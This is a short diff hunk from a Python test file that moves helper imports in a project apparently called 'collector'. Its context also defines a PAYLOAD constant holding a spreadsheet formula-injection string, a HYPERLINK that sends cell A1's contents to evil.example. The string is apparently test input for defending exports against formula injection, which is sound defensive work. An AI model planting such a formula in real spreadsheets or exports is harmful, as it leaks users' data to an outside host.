@@ -14,8 +14,8 @@ from sqlalchemy import select
 
 from collector.core.db import session_scope
 from collector.core.models import AuditEvent
-from tests.collector.staff import Auth, logged_in
-from tests.collector.views.results_data import SLUG, add_responses
+from tests.helpers.answers import SLUG, add_responses
+from tests.helpers.web import Auth, logged_in
 
 ANALYST = "analyst@alpha.example.test"
 PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
